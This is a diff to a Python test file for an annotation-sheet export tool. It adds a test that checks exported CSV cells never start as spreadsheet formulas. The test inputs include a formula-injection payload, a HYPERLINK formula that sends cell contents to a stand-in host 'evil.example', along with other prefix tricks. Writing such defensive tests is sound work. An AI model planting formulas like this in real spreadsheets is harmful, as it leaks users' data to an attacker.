@@ -15,6 +15,7 @@ from flows.cli import app
 from storage.files import locked
 from tasks.human import (
     ASPECTS,
+    FORMULA,
     HumanEvalError,
     HumanStudy,
     Item,
@@ -183,6 +184,18 @@ def test_a_wrong_cell_and_a_wrong_voter_are_named_and_nothing_is_taken(study: Hu
     with pytest.raises(HumanEvalError, match="neither answer stands as bob saw it"):
         read_sheet(study, "bob", path)
     assert votes_of(study) == {}
+
+
+def test_no_text_in_a_sheet_is_a_formula_and_the_votes_come_back(home: Path, tmp_path: Path) -> None:
+    texts = ['=HYPERLINK("http://evil.example?" & A1, "more")', "- first\n- second", "+1", "@SUM(A1)", "\t=1"]
+    items = [Item(item=str(n), instruction=said, input=said, a=said, b=f"{said}!") for n, said in enumerate(texts)]
+    study, path = new_study("a", "b", items, 0), tmp_path / "ann.csv"
+    write_sheet(study, "ann", path)
+    with path.open(newline="", encoding="utf-8-sig") as file:
+        rows = list(csv.DictReader(file))
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(FORMULA)]
+    filled(path, lambda *_: {"helpful": "tie"})
+    assert read_sheet(study, "ann", path) == len(texts)
 
 
 def test_a_sheet_comes_back_as_a_spreadsheet_writes_it(home: Path, tmp_path: Path) -> None:
